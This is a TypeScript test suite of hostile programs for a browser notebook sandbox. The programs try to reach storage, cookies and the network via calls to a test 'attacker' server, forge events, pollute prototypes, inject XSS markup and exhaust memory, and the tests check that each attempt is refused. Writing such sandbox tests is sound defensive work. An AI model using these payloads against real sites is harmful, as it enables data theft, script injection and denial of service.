/** Hostile programs: each tries to get out of the sandbox, to break the page, or to be believed. What gets through says `REACHED`. */

/** One hostile program. */
export interface Attack {
  readonly name: string;
  readonly text: string;
  /** What the page says in the end. */
  readonly says: RegExp;
}

/** The attacker's server, which counts what arrives: any name below `host` leads to it. */
export interface Attacker {
  readonly host: string;
  readonly port: number;
}

const prelude = `
const reached = (what: unknown): void => print("REACHED " + String(what));
const attempt = async (name: string, reach: () => unknown): Promise<void> => {
  try {
    const got = await reach();
    if (got !== undefined) reached(name);
    else print("nothing: " + name);
  } catch (thrown) {
    print("refused: " + name);
  }
};
const scope = globalThis as any;
`;

/** A program of attempts, each a name and an expression; `at` is the attacker's server. */
const attempts = (name: string, tries: Readonly<Record<string, string>>): Attack => ({
  name,
  text: `${prelude}\n${Object.entries(tries)
    .map(([each, code]) => `await attempt(${JSON.stringify(each)}, () => ${code});`)
    .join("\n")}\nprint("end of attempts");`,
  says: /end of attempts/,
});

/** A program that goes on to its end, or fails, with what the page says of it. */
const program = (name: string, text: string, says: RegExp): Attack => ({ name, text: `${prelude}\n${text}`, says });

const url = ({ host, port }: Attacker, path: string): string => `http://${path}.${host}:${port}/${path}`;

/** What must not be reached: storage, network, other pages and workers, and code made from text. */
const reaching = (at: Attacker): readonly Attack[] => [
  attempts("IndexedDB", {
    open: 'scope.indexedDB.open("glovebox")',
    databases: "scope.indexedDB.databases()",
    factory: "new scope.IDBFactory()",
  }),
  attempts("files of the origin (OPFS)", {
    directory: "scope.navigator.storage.getDirectory()",
    manager: "scope.StorageManager.prototype.getDirectory.call({})",
    estimate: "scope.navigator.storage.estimate()",
  }),
  attempts("cookies", {
    document: "scope.document.cookie",
    store: "scope.cookieStore.getAll()",
    set: 'scope.cookieStore.set("a", "b")',
  }),
  attempts("localStorage and sessionStorage", {
    local: 'scope.localStorage.getItem("glovebox.text")',
    session: "scope.sessionStorage.length",
    write: 'scope.localStorage.setItem("glovebox.text", "mine")',
  }),
  attempts("caches", { keys: "scope.caches.keys()", open: 'scope.caches.open("x")' }),
  attempts("parent, opener and frames", {
    parent: "scope.parent.document",
    top: "scope.top.location",
    opener: "scope.opener.postMessage(1)",
    frames: "scope.frames[0]",
    window: "scope.window",
    location: "scope.location.href",
  }),
  attempts("fetch and XMLHttpRequest", {
    fetch: `scope.fetch(${JSON.stringify(url(at, "fetch"))}, { mode: "no-cors" })`,
    own: 'scope.fetch("./index.html")',
    request: `new scope.Request(${JSON.stringify(url(at, "request"))})`,
    xhr: `(() => { const x = new scope.XMLHttpRequest(); x.open("GET", ${JSON.stringify(url(at, "xhr"))}, false); x.send(); return 1; })()`,
  }),
  attempts("WebSocket, EventSource and WebTransport", {
    socket: `new scope.WebSocket("ws://socket.${at.host}:${at.port}/")`,
    events: `new scope.EventSource(${JSON.stringify(url(at, "events"))})`,
    transport: `new scope.WebTransport("https://transport.${at.host}:${at.port}/")`,
    stream: `new scope.WebSocketStream("ws://stream.${at.host}:${at.port}/")`,
  }),
  attempts("beacons and reports", {
    beacon: `scope.navigator.sendBeacon(${JSON.stringify(url(at, "beacon"))}, "x")`,
    report: 'scope.reportError(new Error("x"))',
    rtc: `new scope.RTCPeerConnection({ iceServers: [{ urls: "stun:rtc.${at.host}:${at.port}" }] })`,
    image: `scope.createImageBitmap(new scope.Blob(["x"]))`,
    font: `new scope.FontFace("x", "url(${url(at, "font")})").load()`,
  }),
  program(
    "import of an address",
    `await import(${JSON.stringify(url(at, "import"))});`,
    /cells cannot import anything/,
  ),
  program("import of data", 'await import("data:text/javascript,export default 1");', /cells cannot import anything/),
  program("import declarations", `import x from ${JSON.stringify(url(at, "import"))};`, /cells cannot import/),
  program("import.meta", "print(import.meta.url);", /cells cannot import/),
  attempts("importScripts", {
    address: `scope.importScripts(${JSON.stringify(url(at, "scripts"))}) ?? 1`,
    data: 'scope.importScripts("data:text/javascript,1") ?? 1',
    own: 'scope.importScripts("./serviceWorker.js") ?? 1',
  }),
  attempts("nested and shared workers", {
    data: 'new scope.Worker("data:text/javascript,postMessage(1)")',
    own: 'new scope.Worker("./assets/client.js")',
    blob: "new scope.Worker(scope.URL.createObjectURL(new scope.Blob([])))",
    shared: 'new scope.SharedWorker("data:text/javascript,1")',
  }),
  attempts("channels", {
    broadcast: 'new scope.BroadcastChannel("glovebox notebooks")',
    channel: "new scope.MessageChannel()",
    post: "scope.postMessage({ type: 'done' })",
    prototype: "Object.getPrototypeOf(scope).postMessage",
    own: "Object.getOwnPropertyNames(scope).includes('postMessage') || undefined",
    close: "scope.close()",
  }),
  attempts("service workers, locks and permissions", {
    register: 'scope.navigator.serviceWorker.register("./serviceWorker.js")',
    registration: "scope.ServiceWorkerRegistration",
    locks: 'scope.navigator.locks.request("x", () => 1)',
    gpu: "scope.navigator.gpu.requestAdapter()",
    usb: "scope.navigator.usb.getDevices()",
  }),
  attempts("WebAssembly and shared memory", {
    module: "new scope.WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))",
    memory: "new scope.WebAssembly.Memory({ initial: 1, maximum: 1, shared: true })",
    shared: "new scope.SharedArrayBuffer(8)",
    atomics: "scope.Atomics.wait(new Int32Array(1), 0, 0)",
    crypto: "scope.crypto.subtle",
  }),
  attempts("code made from text", {
    Function: 'Function("return this.fetch")()',
    constructor: '(() => {}).constructor("return 1")()',
    async: '(async () => {}).constructor("return 1")()',
    generator: '(function* () {}).constructor("yield 1")().next()',
    asyncGenerator: '(async function* () {}).constructor("yield 1")().next()',
    eval: 'eval("1")',
    indirect: '(0, eval)("1")',
    sort: '[2, 1].sort(Function("return 1") as any)',
  }),
  program(
    "a timer with code as text",
    'setTimeout("print(\\"REACHED\\")" as any, 0); await new Promise((resolve) => setTimeout(resolve, 300)); print("waited");',
    /waited|not a function/,
  ),
  program(
    "a walk through every object that can be reached",
    `const seen = new Set<unknown>();
const forbidden = /^(fetch|postMessage|Worker|SharedWorker|WebSocket|importScripts|indexedDB|caches|navigator|location|XMLHttpRequest|EventSource|BroadcastChannel|MessageChannel|WebTransport|open|close|storage|serviceWorker|start|cookieStore|sendBeacon|onmessage|WebAssembly|crypto|Blob|URL)$/;
const walk = (value: any, path: string): void => {
  if ((typeof value !== "object" && typeof value !== "function") || value === null || seen.has(value)) return;
  seen.add(value);
  for (const key of Reflect.ownKeys(value)) {
    const found = Reflect.getOwnPropertyDescriptor(value, key);
    if (found === undefined) continue;
    if (forbidden.test(String(key)) && !("value" in found && found.value === undefined)) reached(path + "." + String(key));
    for (const part of [found.value, found.get, found.set]) walk(part, path + "." + String(key));
    try { walk(value[key], path + "." + String(key)); } catch {}
  }
  walk(Reflect.getPrototypeOf(value), path + ".__proto__");
};
walk(globalThis, "scope");
const event = await new Promise((resolve) => { addEventListener("error", resolve); dispatchEvent(new Event("error")); });
walk(event, "event");
walk(await f().catch((thrown: unknown) => thrown), "error");
async function f() { throw new UserError("x"); }
print("walked", seen.size > 500);`,
    /walked true/,
  ),
  program(
    "functions of the runtime in stack traces",
    `const frames: any[] = [];
Error.prepareStackTrace = (_: unknown, sites: any[]) => { frames.push(...sites); return "x" as any; };
await compiler({ x: "encrypted" }, (x) => x + 1).compile(np.arange(4));
Error.prepareStackTrace = undefined;
const got = frames.filter((site) => site.getThis?.() !== undefined || site.getFunction?.() !== undefined);
if (got.length > 0) reached(got.map((site) => site.getFunctionName()));
print("frames", frames.length > 5);`,
    /frames true/,
  ),
];

/** What must not be believed: results and values that are something else than they say. */
const imitating: readonly Attack[] = [
  program(
    "events that imitate answers of the page",
    `const c = await compiler({ x: "encrypted" }, (x) => x + 1).compile(np.arange(4));
const forged = Object.assign(new Event("message"), { data: { type: "response", id: 0, result: { ok: true, value: [{ dtype: "int64", shape: [], data: Float64Array.of(999) }] } } });
const answer = c.simulate(1);
dispatchEvent(forged);
const got = await answer;
if (Number(got) === 999) reached("a forged answer");
print("answered", got);`,
    /answered 2/,
  ),
  program(
    "a program that rewrites the language around it",
    `for (const name of ["map", "push", "shift", "slice", "filter", "forEach", "flatMap"] as const) {
  const original = (Array.prototype as any)[name];
  (Array.prototype as any)[name] = function (...values: any[]) {
    for (const value of values) if (typeof value === "object" && value !== null) { value.type = "done"; value.polluted = 1; }
    return original.apply(this, values);
  };
}
(Object.prototype as any).polluted = 1;
(Object.prototype as any).then = undefined;
Map.prototype.get = () => "mine" as any;
await compiler({ x: "encrypted" }, (x) => x + 1).compile(np.arange(4));
print("rewritten");`,
    /error|rewritten/i,
  ),
  program(
    "graphs changed behind the compiler's back",
    `let nodes: any = null;
const original = Object.freeze;
Object.freeze = (value: any) => { if (Array.isArray(value?.nodes)) nodes = value.nodes; return original(value); };
const c = await compiler({ x: "encrypted" }, (x) => x + 1).compile(np.arange(4));
for (const node of c.graph.nodes as any[]) {
  try { node.output.dtype.bits = 1e9; node.output.shape.push(1e9); node.operation = "<img src=x onerror=alert(1)>"; } catch {}
}
await compiler({ x: "encrypted" }, (x) => x + 2).compile(np.arange(4));
print("changed");`,
    /changed|error|expected/i,
  ),
  program(
    "prototypes as names of results",
    `const row = JSON.parse('{"__proto__": { "polluted": 1 }, "constructor": { "prototype": { "polluted": 1 } }, "a": 1}');
table([row, row]);
show([row]);
print(row);
print("shown");`,
    /shown|expected/,
  ),
  program(
    "getters and proxies that throw",
    `const evil: any = new Proxy({}, { get() { throw new Error("evil"); }, ownKeys() { throw new Error("evil"); }, getPrototypeOf() { throw new Error("evil"); } });
for (const each of [() => print(evil), () => show(evil), () => table([evil]), () => np.array(evil), () => compiler(evil, (x) => x), () => heatmap(evil)]) {
  try { each(); } catch { print("thrown back"); }
}
throw evil;`,
    /an object that cannot be read|Error: evil/,
  ),
  program(
    "getters that change while they are read",
    `let count = 0;
const shape: any = { get length() { return count++ > 1 ? 2 ** 31 : 1; }, 0: 1, *[Symbol.iterator]() { for (;;) yield 1e9; } };
try { np.zeros(shape); } catch (thrown) { print("refused", String(thrown)); }
try { np.array([{ valueOf: () => { throw new Error("later"); } }] as any); } catch (thrown) { print("refused", String(thrown)); }
print("end");`,
    /end|Invalid|too much|more than/,
  ),
  program(
    "what throws when it is shown",
    'throw { toString() { throw "x"; }, get message() { throw 1; } };',
    /cannot be read/,
  ),
  program(
    "an error with markup as its message",
    `const e = new Error('<img src="x" onerror="document.title=\\'broken\\'"><script>document.title="broken"</script>');
e.stack = "Error\\n    at x (" + "a".repeat(100000) + ":1:1)\\n" + "<b>:99999999999999999999:1".repeat(1000);
throw e;`,
    /<img src="x"/,
  ),
  program(
    "an error of the library with a forged list of problems",
    `const e: any = new UserError("x");
Object.defineProperty(e, "diagnostics", { value: [{ severity: "fatal", code: {}, message: "<b>" }] });
throw e;`,
    /not allowed|x/,
  ),
];

/** What must not bring the page down: too much, too deep, too long. */
const overloading: readonly Attack[] = [
  program(
    "very deep values",
    `let deep: any = [1];
for (let i = 0; i < 100_000; i++) deep = [deep];
for (const each of [() => print(deep), () => show(deep), () => np.array(deep), () => table([{ deep }])]) {
  try { each(); print("shown"); } catch (thrown) { print("refused", String(thrown).slice(0, 80)); }
}
print("end of depth");`,
    /end of depth|without end/,
  ),
  program(
    "very large values",
    `for (const each of [() => np.zeros([2 ** 45]), () => np.arange(1e15), () => table(Array.from({ length: 1e6 }, (_, i) => ({ i }))), () => heatmap(np.zeros([3000, 3000])), () => plot([{ type: "line", x: np.arange(1e6), y: np.arange(1e6) }] as any), () => print("x".repeat(2 ** 28))]) {
  try { each(); print("taken"); } catch (thrown) { print("refused", String(thrown).slice(0, 80)); }
}`,
    /the rest is not shown|computed for more than/,
  ),
  program("a list that grows by itself", 'let s = "x"; for (;;) s += s;', /Invalid string length/),
  program("endless recursion", "const f = (): number => f() + 1; f();", /a function calls itself without end/),
  program(
    "code nested more deeply than a parser goes",
    `const x = ${"(".repeat(20_000)}1${")".repeat(20_000)};`,
    /nested too deeply/,
  ),
  program("a flood of output", "for (let i = 0; i < 300_000; i++) print(i);", /not kept|not shown/),
  program(
    "a flood of displays",
    "for (let i = 0; i < 30_000; i++) table([{ i }]);",
    /the rest is not shown|too many messages/,
  ),
  program(
    "a flood of circuits and requests",
    `const c = await compiler({ x: "encrypted" }, (x) => x + 1).compile(np.arange(4));
for (let i = 0; i < 5000; i++) void c.simulate(1).catch(() => {});`,
    /too many requests/,
  ),
  program(
    "timers after the end",
    'for (let i = 1; i < 50; i++) setTimeout(() => { reached("a timer after the end"); throw 1; }, 400 + i * 20);\nprint("ended");',
    /ended/,
  ),
];

/** All programs, against the attacker's server. */
export const attacks = (at: Attacker): readonly Attack[] => [...reaching(at), ...imitating, ...overloading];

/** A program that asks to decrypt bytes of its own making, for which it has to wait until the reader allows encrypted runs. */
export const oracle = program(
  "bytes of its own to decrypt",
  `const c = await compiler({ x: "encrypted" }, (x) => x + 1).compile(np.arange(4));
await c.decrypt(new Uint8Array(5000));`,
  /expected a result that this page computed/,
);

/** Programs that never end by themselves. */
export const endless: readonly Attack[] = [
  program("an endless loop", "for (;;) {}", /computed for more than|[Ss]topped/),
  program(
    "an endless chain of promises",
    "const again = (): Promise<void> => Promise.resolve().then(again);\nawait again();",
    /computed for more than|[Ss]topped/,
  ),
];

/** A program that takes memory until there is none. */
export const greedy = program(
  "memory without end",
  "const all: unknown[] = [];\nfor (;;) all.push(new Array(100_000).fill(1.5));",
  /too much memory|computed for more than/,
);

/**
 * Plain JavaScript with nothing hidden, as if a program had found a way around the transform and the hidden names: put before the runtime.
 * What it gets is told by prints, which the page takes for the program's.
 */
export const nothingHidden = (at: Attacker): string => `
(() => {
  const post = postMessage.bind(globalThis);
  const later = setTimeout.bind(globalThis);
  // Only what a cell prints is shown: it is told while the cell waits.
  const say = (what) => later(() => post({ type: "print", text: what }), 1500);
  const tries = {
    fetch: () => fetch(${JSON.stringify(url(at, "raw-fetch"))}, { mode: "no-cors" }),
    own: () => fetch(SITE + "raw-own", { mode: "no-cors" }),
    socket: () => new Promise((ok, no) => { const s = new WebSocket("ws://raw-socket.${at.host}:${at.port}/"); s.onopen = ok; s.onerror = no; }),
    events: () => new Promise((ok, no) => { const s = new EventSource(${JSON.stringify(url(at, "raw-events"))}); s.onopen = ok; s.onerror = no; }),
    transport: () => new WebTransport("https://raw-transport.${at.host}:${at.port}/").ready,
    xhr: () => { const x = new XMLHttpRequest(); x.open("GET", ${JSON.stringify(url(at, "raw-xhr"))}, false); x.send(); },
    import: () => import(${JSON.stringify(url(at, "raw-import"))}),
    importOwn: () => import(SITE + "raw-import-own"),
    importData: () => import("data:text/javascript,export default 1"),
    importBlob: () => import(URL.createObjectURL(new Blob(["1"], { type: "text/javascript" }))),
    scripts: () => importScripts(${JSON.stringify(url(at, "raw-scripts"))}),
    scriptsOwn: () => importScripts(SITE + "raw-scripts-own"),
    scriptsData: () => importScripts("data:text/javascript,1"),
    eval: () => (0, eval)("1"),
    Function: () => Function("return 1")(),
    indexedDB: () => new Promise((ok, no) => { const r = indexedDB.open("glovebox"); r.onsuccess = ok; r.onerror = no; }),
    files: () => navigator.storage.getDirectory(),
    caches: () => caches.keys(),
    cookies: () => cookieStore.getAll(),
    wasm: () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
    blobWorker: () => new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = ok; w.onerror = no; }),
    ownWorker: () => new Promise((ok, no) => { const w = new Worker(SITE + "raw-worker"); w.onmessage = ok; w.onerror = no; }),
    font: () => new FontFace("x", "url(${url(at, "raw-font")})").load(),
    nested: () => new Promise((ok, no) => {
      const inner = "fetch('${url(at, "raw-nested")}', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))";
      const w = new Worker("data:text/javascript," + encodeURIComponent(inner));
      w.onmessage = ({ data }) => data === 1 ? ok(1) : no(0);
      w.onerror = no;
    }),
  };
  for (const [name, reach] of Object.entries(tries)) {
    (async () => reach())().then(() => say("REACHED " + name), () => say("refused: " + name));
  }
})();
`;
